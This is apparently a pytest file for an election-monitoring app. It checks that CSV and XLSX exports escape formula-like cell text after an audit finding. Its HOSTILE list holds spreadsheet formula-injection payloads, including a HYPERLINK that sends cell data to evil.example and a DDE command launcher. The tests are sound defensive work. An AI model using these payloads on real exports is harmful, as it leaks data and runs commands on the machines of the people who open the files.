"""Text that a spreadsheet would run as a formula is escaped in every CSV and XLSX export (finding 10: an incident
description "=HYPERLINK(…)" was a live formula in the XLSX export and unescaped in the CSV)."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from pollwatch.web.downloads import csv_stream, xlsx_file

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Details")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1"]


def _xlsx_cells(spool) -> list[list]:
    from openpyxl import load_workbook

    workbook = load_workbook(spool)
    return [[cell.value for cell in row] for row in workbook.active.iter_rows()], workbook


@pytest.mark.parametrize("text", HOSTILE)
def test_a_cell_starting_like_a_formula_is_written_as_text_in_csv_and_xlsx(text):
    rows = list(csv.reader(io.StringIO("".join(csv_stream(["description"], [[text]])), newline="")))
    assert rows[1] == ["'" + text]
    cells, workbook = _xlsx_cells(xlsx_file(["description"], [[text]], title="t"))
    cell = workbook.active["A2"]
    assert cell.data_type == "s" and cell.value == "'" + text  # a string, not a formula


def test_ordinary_text_numbers_and_negative_numbers_are_left_as_they_are():
    data = [["Calm opening", -3, 2.5, "a=b", "", None]]
    rows = list(csv.reader(io.StringIO("".join(csv_stream(list("abcdef"), data)), newline="")))
    assert rows[1] == ["Calm opening", "-3", "2.5", "a=b", "", ""]
    cells, _ = _xlsx_cells(xlsx_file(list("abcdef"), data, title="t"))
    assert cells[1][:4] == ["Calm opening", -3, 2.5, "a=b"]


def test_an_incident_description_with_a_formula_is_escaped_in_the_incident_exports(world, login):
    from pollwatch.incidents.services import check_report_incident

    check_report_incident(world.cis, source="staff", category="intimidation", description=HOSTILE[0],
                          station=world.stations["S111"])
    boris = login(world.boris)
    body = b"".join(boris.get(reverse("operations-export", args=["cis", "incidents", "csv"])).streaming_content)
    rows = list(csv.DictReader(io.StringIO(body.decode(), newline="")))
    assert rows[0]["description"] == "'" + HOSTILE[0]
    xlsx = boris.get(reverse("operations-export", args=["cis", "incidents", "xlsx"]))
    cells, workbook = _xlsx_cells(io.BytesIO(b"".join(xlsx.streaming_content)))
    column = cells[0].index("description")
    assert cells[1][column] == "'" + HOSTILE[0]
    assert all(c.data_type != "f" for row in workbook.active.iter_rows() for c in row)
